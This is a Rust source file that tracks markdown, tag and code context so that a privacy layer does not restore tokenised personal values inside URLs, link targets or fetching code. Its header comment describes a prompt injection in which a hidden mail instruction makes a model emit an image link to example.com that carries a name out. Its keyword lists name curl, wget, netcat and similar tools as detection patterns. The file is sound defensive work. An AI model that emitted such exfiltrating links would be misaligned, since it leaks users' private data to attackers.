//! Where in an answer nothing may be restored: in web addresses, link targets, tags and code.
//!
//! An instruction hidden in a mail can have a model write `![](https://example.com/?name=⟦name·A7K2QX⟧)`. Whoever shows that
//! picture sends the name away. So the places that are fetched, followed or run are told by what stands before them, character by character, and
//! there a token stays a word. The rules lean to the safe side: a token that could be part of an address is not restored.
//!
//! Code in a fence that names a programming language is never restored into. In a fence without one, in indented and in inline
//! code (a letter is often given that way) it is, but not after a word on its line that fetches something. What this does
//! not see: code that fetches in one line what an earlier line holds, in a fence that names no language.

/// Words that fetch or send wherever they stand.
const COMMANDS: &[&str] =
    &["curl", "wget", "nslookup", "sendbeacon", "xmlhttprequest", "iwr", "webrequest"];

/// Words that fetch or send in code.
const CALLS: &[&str] = &[
    "axios", "dig", "fetch", "ftp", "href", "http", "https", "invoke", "irm", "nc", "ncat",
    "netcat", "requests", "rsync", "scp", "socket", "src", "ssh", "telnet", "url", "urllib",
    "urlopen", "webhook",
];

/// Fences whose content is text to read or to fill in.
const PLAIN: &[&str] = &[
    "",
    "csv",
    "email",
    "eml",
    "ics",
    "json",
    "markdown",
    "md",
    "plain",
    "plaintext",
    "text",
    "toml",
    "tsv",
    "txt",
    "vcard",
    "vcf",
    "yaml",
    "yml",
];

const LONGEST_WORD: usize = 16;

/// What is known of an answer up to a place.
#[derive(Clone, Debug, Default)]
pub(super) struct Context {
    /// The two characters before.
    last: [char; 2],
    run: Run,
    /// Open parentheses of a link target or a `url(...)`.
    target: u32,
    in_tag: bool,
    line: Line,
    fence: Option<Fence>,
    /// A run of backticks in one line opened a span of code.
    in_code: bool,
    ticks: usize,
    /// The letters of the word that is being written, small.
    word: String,
}

/// Characters without white space between them.
#[derive(Clone, Debug, Default)]
struct Run {
    /// It is, or may be, an address.
    is_address: bool,
    /// Letters or digits, a dot, and more of them.
    is_dotted: bool,
    /// The letters at its beginning, up to its first other character.
    in_scheme: bool,
}

#[expect(clippy::struct_excessive_bools, reason = "each says one thing that was seen")]
#[derive(Clone, Debug)]
struct Line {
    /// White space at its beginning; `None` once something else came.
    indent: Option<usize>,
    /// It began with `[`, as the definition of a link does.
    bracket: bool,
    /// It defines a link.
    is_definition: bool,
    commands: bool,
    calls: bool,
    /// It is indented as code is.
    is_code: bool,
    is_blank: bool,
    /// The fence mark at its beginning, and how long it is.
    mark: Option<(char, usize)>,
    /// What follows the mark.
    info: String,
}

#[derive(Clone, Debug)]
struct Fence {
    mark: char,
    length: usize,
    is_plain: bool,
}

impl Default for Line {
    fn default() -> Self {
        Self {
            indent: Some(0),
            bracket: false,
            is_definition: false,
            commands: false,
            calls: false,
            is_code: false,
            is_blank: true,
            mark: None,
            info: String::new(),
        }
    }
}

impl Context {
    /// Whether a Latin letter or digit stands directly before.
    pub(super) fn after_word(&self) -> bool {
        self.last[1].is_ascii_alphanumeric()
    }

    /// Whether a value may stand here.
    pub(super) fn is_open(&self) -> bool {
        let in_code = self.in_code || self.fence.is_some() || self.line.is_code;
        let sends = |words: &[&str]| words.contains(&self.word.as_str());
        !(self.run.is_address
            || self.target > 0
            || self.in_tag
            || self.line.is_definition
            || self.line.commands
            || sends(COMMANDS)
            || (in_code && (self.line.calls || sends(CALLS)))
            || self.fence.as_ref().is_some_and(|fence| !fence.is_plain))
    }

    /// Reads on.
    pub(super) fn feed(&mut self, c: char) {
        if c == '\n' {
            self.end_line();
        } else {
            self.in_line(c);
        }
        self.last = [self.last[1], c];
    }

    fn in_line(&mut self, c: char) {
        let [before, last] = self.last;
        self.begin_line(c);
        self.spell(c);
        // Code: `...`, in a line.
        if c == '`' {
            self.ticks += 1;
        } else if std::mem::take(&mut self.ticks) > 0 && self.fence.is_none() {
            self.in_code = !self.in_code;
        }
        // Targets: [text](here), url(here).
        if self.target > 0 {
            match c {
                '(' => self.target += 1,
                ')' => self.target -= 1,
                _ => {}
            }
        } else if c == '(' && (last == ']' || self.word == "url") {
            self.target = 1;
        }
        if self.line.bracket && last == ']' && c == ':' {
            self.line.is_definition = true;
        }
        // Tags.
        if self.in_tag {
            self.in_tag = c != '>';
        } else if last == '<' && (c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
            self.in_tag = true;
        }
        self.extend_run(c, before, last);
        if !c.is_ascii_alphabetic() {
            self.word.clear();
        }
    }

    /// The beginning of a line: indent, fence, definition.
    fn begin_line(&mut self, c: char) {
        let line = &mut self.line;
        line.is_blank &= c.is_whitespace();
        if let Some((mark, length)) = &mut line.mark {
            if c == *mark && line.info.is_empty() {
                *length += 1;
            } else if line.info.len() < LONGEST_WORD {
                line.info.push(c.to_ascii_lowercase());
            }
        }
        if let Some(indent) = line.indent {
            if c == ' ' || c == '\t' {
                line.indent = Some(indent + if c == '\t' { 4 } else { 1 });
                return;
            }
            line.indent = None;
            line.is_code = indent >= 4;
            line.bracket = c == '[';
            if matches!(c, '`' | '~') {
                line.mark = Some((c, 1));
            }
        }
    }

    /// Puts words together and looks at each that has ended.
    fn spell(&mut self, c: char) {
        if c.is_ascii_alphabetic() {
            if self.word.len() <= LONGEST_WORD {
                self.word.push(c.to_ascii_lowercase());
            }
        } else {
            self.end_word();
        }
    }

    fn end_word(&mut self) {
        if self.word.is_empty() {
            return;
        }
        self.line.commands |= COMMANDS.contains(&self.word.as_str());
        self.line.calls |= CALLS.contains(&self.word.as_str());
    }

    fn end_line(&mut self) {
        self.end_word();
        self.word.clear();
        if std::mem::take(&mut self.ticks) > 0 && self.fence.is_none() {
            self.in_code = !self.in_code;
        }
        let line = std::mem::take(&mut self.line);
        let is_fence = |(mark, length): &(char, usize)| *length >= 3 && !line.info.contains(*mark);
        if let Some((mark, length)) = line.mark.filter(is_fence) {
            let info = line.info.trim();
            let closes =
                |fence: &Fence| fence.mark == mark && length >= fence.length && info.is_empty();
            match &self.fence {
                Some(fence) if closes(fence) => self.fence = None,
                Some(_) => {}
                None => {
                    let language = info.split_whitespace().next().unwrap_or_default();
                    let is_plain = PLAIN.contains(&language);
                    self.fence = Some(Fence { mark, length, is_plain });
                }
            }
            self.in_code = false;
        }
        if line.is_blank {
            // Neither tags nor links nor code in a line go on over an empty one.
            (self.in_tag, self.target, self.in_code) = (false, 0, false);
        }
        if self.last[1] == '\\' {
            // The command goes on in the next line.
            (self.line.commands, self.line.calls) = (line.commands, line.calls);
        }
        self.run = Run::default();
    }

    /// Whether what is written without a gap is an address.
    fn extend_run(&mut self, c: char, before: char, last: char) {
        let run = &mut self.run;
        if c.is_whitespace() || matches!(c, '<' | '>') {
            *run = Run::default();
            return;
        }
        if !run.in_scheme && !last.is_ascii_alphanumeric() {
            run.in_scheme = c.is_ascii_alphabetic();
        }
        let scheme = || matches!(self.word.as_str(), "mailto" | "javascript" | "vbscript" | "sms");
        run.is_address |= (last == '/' && c == '/')
            || (c == ':' && run.in_scheme && scheme())
            || (c == '.' && self.word == "www");
        run.is_dotted |= last == '.' && before.is_alphanumeric() && c.is_alphanumeric();
        run.is_address |= run.is_dotted && matches!(c, '/' | '?' | '#' | '=' | '%' | '&' | '\\');
    }
}
